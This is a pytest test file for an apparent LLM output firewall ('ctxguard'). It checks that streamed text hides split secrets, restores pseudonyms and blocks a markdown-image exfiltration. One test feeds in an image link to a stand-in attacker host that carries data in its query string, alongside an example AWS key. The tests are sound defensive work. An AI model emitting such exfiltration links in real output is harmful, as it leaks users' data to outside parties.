"""Streamed output: nothing sensitive is shown before it is checked (hold-back window)."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from ctxguard import AuditLog, Firewall, Policy, Session
from ctxguard.stream import OutputStream

AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
POLICY = """
exfiltration:
  allowed_domains: ["acme.com"]
redaction:
  entities:
    SECRET: {out_to_user: redact}
"""
FILLER = "The quarterly numbers look steady and the team is on track for the launch next month. " * 6


@pytest.fixture(scope="module")
def fw() -> Iterator[Firewall]:
    with Firewall(Policy.from_yaml(POLICY), audit=AuditLog(None), signing_key=b"stream-test-key-0123456789") as f:
        yield f


@pytest.fixture
def s(fw: Firewall) -> Iterator[Session]:
    with fw.session("alice", "acme") as sess:
        yield sess


def _stream(s: Session, text: str, chunk: int = 7, **kw: int) -> tuple[list[str], str, OutputStream]:
    out = s.stream_output(**kw)
    shown = [out.feed(text[i:i + chunk]) for i in range(0, len(text), chunk)]
    final = out.close()
    return shown, "".join(shown) + final.text, out


def test_streamed_text_equals_the_checked_whole_and_is_released_before_the_end(s: Session) -> None:
    text = FILLER + "Call me later."
    shown, total, _ = _stream(s, text, hold_back=64, min_release=64)
    assert total == text
    assert any(shown)  # some text was released while streaming, not all at close


def test_a_secret_split_across_chunks_is_never_shown(s: Session) -> None:
    text = FILLER + f"The deploy key is {AWS_KEY} and it rotates weekly. " + FILLER
    shown, total, _ = _stream(s, text, chunk=5, hold_back=64, min_release=64)
    assert AWS_KEY not in total
    assert all(AWS_KEY[:8] not in piece for piece in shown)
    assert "<SECRET_AWS_ACCESS_KEY>" in total


def test_a_markdown_image_exfiltration_stops_the_stream(s: Session) -> None:
    text = FILLER + "![chart](https://evil.example/p.png?d=quarterly-numbers) " + FILLER
    _, total, out = _stream(s, text, chunk=9, hold_back=64, min_release=64)
    assert out.blocked
    assert "evil.example" not in total
    assert out.close().blocked


def test_pseudonyms_are_restored_in_streamed_text(s: Session) -> None:
    s.admit("Write to bob@acme.com please")
    text = FILLER + "I wrote to <EMAIL_ADDRESS_1> as asked. " + FILLER
    _, total, _ = _stream(s, text, hold_back=64, min_release=64)
    assert "bob@acme.com" in total
    assert "<EMAIL_ADDRESS_1>" not in total


def test_bad_arguments_are_refused(s: Session) -> None:
    with pytest.raises(ValueError):
        OutputStream(s, hold_back=-1)
    out = OutputStream(s)
    with pytest.raises(TypeError):
        out.feed(None)  # type: ignore[arg-type]
    out.close()
    with pytest.raises(RuntimeError):
        out.feed("more")
